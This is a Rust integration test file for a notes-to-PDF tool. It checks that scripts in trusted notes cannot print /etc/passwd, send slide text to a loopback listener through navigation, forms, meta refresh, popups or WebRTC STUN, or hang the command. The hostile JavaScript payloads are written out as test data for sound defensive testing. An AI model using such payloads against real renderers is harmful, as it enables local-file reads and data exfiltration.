//! Issue #16: `pdf` of trusted notes (`--allow-html`, so their script
//! runs) cannot print a local file, cannot send the slides' text out, and
//! cannot hang the command. The real binary against real Chromium.

use crate::common;

use common::browser;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

/// A project whose one talk has `script` in its first bullet.
fn project(script: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(dir.path().join("talks")).expect("mkdir");
    std::fs::write(
        dir.path().join("talks/day.md"),
        format!("# Day\n\n## Hostile\n\n* a <script>{script}</script>\n\n## After\n\n* b\n"),
    )
    .expect("notes");
    // notedeck's own temp files go here, so the test can look for any
    // browser still running on them afterwards.
    std::fs::create_dir(dir.path().join("tmp")).expect("mkdir");
    dir
}

fn pdf(dir: &Path, chromium: &Path, timeout_s: &str) -> Output {
    Command::new(env!("CARGO_BIN_EXE_notedeck"))
        .current_dir(dir)
        .env("TMPDIR", dir.join("tmp"))
        .env("NOTEDECK_PDF_TIMEOUT", timeout_s)
        .args([
            "--color",
            "never",
            "pdf",
            "--allow-html",
            "--deck",
            "hostile",
        ])
        .args(["talks", "-o", "out.pdf", "--browser"])
        .arg(chromium)
        .output()
        .expect("run notedeck")
}

/// Processes whose command line mentions `needle` (our Chromium's profile
/// lives under it).
fn processes_mentioning(needle: &Path) -> Vec<String> {
    let needle = needle.to_string_lossy().into_owned();
    let Ok(procs) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    procs
        .filter_map(|e| e.ok())
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains(&needle))
        .collect()
}

fn assert_no_browser_left(dir: &Path) {
    let tmp = dir.join("tmp");
    let end = Instant::now() + Duration::from_secs(5);
    while !processes_mentioning(&tmp).is_empty() && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(processes_mentioning(&tmp), Vec::<String>::new());
}

/// The PDF's text, by poppler's `pdftotext` (required under CI).
fn pdf_text(pdf: &Path) -> Option<String> {
    let out = Command::new("pdftotext").arg(pdf).arg("-").output();
    match out {
        Ok(o) if o.status.success() => Some(String::from_utf8_lossy(&o.stdout).into_owned()),
        _ if std::env::var("CI").is_ok_and(|v| v == "true") => {
            panic!("pdftotext is required under CI=true (apt-get install poppler-utils)")
        }
        _ => {
            eprintln!(
                "\n!!! pdftotext missing: the PDF's text is not checked (fails under CI=true)\n"
            );
            None
        }
    }
}

/// The PDF's title is the deck's ("Hostile · Day", UTF-16 in hex).
fn titled_hostile(pdf: &[u8]) -> bool {
    String::from_utf8_lossy(pdf).contains("/Title <FEFF0048006F007300740069006C0065")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn a_script_cannot_print_a_local_file() {
    let Some(chromium) = browser::require_chromium() else {
        return;
    };
    let dir = project(r#"location.href = "file:///etc/passwd""#);
    let o = pdf(dir.path(), &chromium, "60");
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(
            "warning: blocked 1 request the page made while printing: file:///etc/passwd"
        ),
        "{}",
        stderr(&o)
    );
    let out = dir.path().join("out.pdf");
    let bytes = std::fs::read(&out).expect("pdf");
    // The deck was printed, not the file: its title and its two slides.
    assert!(titled_hostile(&bytes));
    assert_eq!(browser::pdf_pages(&bytes), 2);
    if let Some(text) = pdf_text(&out) {
        assert!(text.contains("Hostile"), "{text}");
        let passwd = std::fs::read_to_string("/etc/passwd").expect("/etc/passwd");
        for line in passwd.lines().filter(|l| !l.trim().is_empty()) {
            assert!(
                !text.contains(line),
                "printed a line of /etc/passwd: {line}"
            );
        }
        assert!(!text.contains("/bin/"), "{text}");
    }
    assert_no_browser_left(dir.path());
}

#[test]
fn a_script_cannot_send_the_slides_out() {
    let Some(chromium) = browser::require_chromium() else {
        return;
    };
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    // Built from pieces: a bare URL in the notes would become a link.
    // Navigation is what the page's CSP does not cover: the page itself,
    // a form, a meta refresh and a popup all try it (after an alert, which
    // must not hold the print up).
    let to = format!(r#"["http:", "", "127.0.0.1:{port}", "leak?"].join("/")"#);
    let dir = project(&format!(
        "alert('a dialog must not block the print'); \
         const u = {to} + encodeURIComponent(document.title); \
         window.open(u + '&popup'); \
         const f = document.createElement('form'); f.action = u + '&form'; f.method = 'post'; \
         f.hidden = true; document.body.append(f); f.submit(); \
         const m = document.createElement('meta'); m.httpEquiv = 'refresh'; \
         m.content = '0;url=' + u + '&meta'; document.head.append(m); \
         location.href = u;"
    ));
    let o = pdf(dir.path(), &chromium, "60");
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(&format!("http://127.0.0.1:{port}/leak?")),
        "{}",
        stderr(&o)
    );
    let bytes = std::fs::read(dir.path().join("out.pdf")).expect("pdf");
    assert!(titled_hostile(&bytes));
    // Nothing connected, then or a moment later.
    std::thread::sleep(Duration::from_millis(500));
    match listener.accept() {
        Ok((_, from)) => panic!("the page connected to the listener from {from}"),
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock, "{e}"),
    }
    assert_no_browser_left(dir.path());
}

/// Issue #28: WebRTC's STUN requests are UDP, which request interception
/// and the proxy flag never see. A page (and a frame it makes) asking a
/// "STUN server" on a loopback UDP port of the test must send it nothing.
#[test]
fn a_script_cannot_send_the_slides_out_over_webrtc() {
    let Some(chromium) = browser::require_chromium() else {
        return;
    };
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
    let port = udp.local_addr().expect("addr").port();
    // The frame's own window has WebRTC too, unless it is removed there.
    // (No `>` in the script: notes text escapes it.)
    let dir = project(&format!(
        "function leak(w) {{ try {{ const pc = new w.RTCPeerConnection({{iceServers: \
         [{{urls: 'stun:127.0.0.1:{port}'}}]}}); pc.createDataChannel(document.title); \
         pc.createOffer().then(function (o) {{ pc.setLocalDescription(o); }}); \
         }} catch (e) {{}} }} leak(window); const f = document.createElement('iframe'); \
         document.body.append(f); leak(f.contentWindow);"
    ));
    let o = pdf(dir.path(), &chromium, "60");
    assert!(o.status.success(), "{}", stderr(&o));
    let bytes = std::fs::read(dir.path().join("out.pdf")).expect("pdf");
    assert!(titled_hostile(&bytes));
    udp.set_read_timeout(Some(Duration::from_millis(1500)))
        .expect("timeout");
    let mut buf = [0u8; 2048];
    match udp.recv_from(&mut buf) {
        Ok((n, from)) => panic!("the page sent {n} bytes over UDP from {from}"),
        Err(e) => assert!(
            matches!(
                e.kind(),
                std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
            ),
            "{e}"
        ),
    }
    assert_no_browser_left(dir.path());
}

#[test]
fn a_page_that_never_settles_is_stopped_at_the_timeout() {
    let Some(chromium) = browser::require_chromium() else {
        return;
    };
    let dir = project("while (true) {}");
    let started = Instant::now();
    let o = pdf(dir.path(), &chromium, "3");
    let took = started.elapsed();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("printing did not finish in 3 s; stopped"),
        "{}",
        stderr(&o)
    );
    // Well past 3 s would be a hang with extra steps (the browser is
    // given 5 s to close before it is killed).
    assert!(took < Duration::from_secs(30), "took {took:?}");
    assert!(!dir.path().join("out.pdf").exists());
    assert_no_browser_left(dir.path());
    let left: Vec<PathBuf> = std::fs::read_dir(dir.path().join("tmp"))
        .expect("tmp")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .collect();
    assert_eq!(left, Vec::<PathBuf>::new(), "temp files left behind");
}
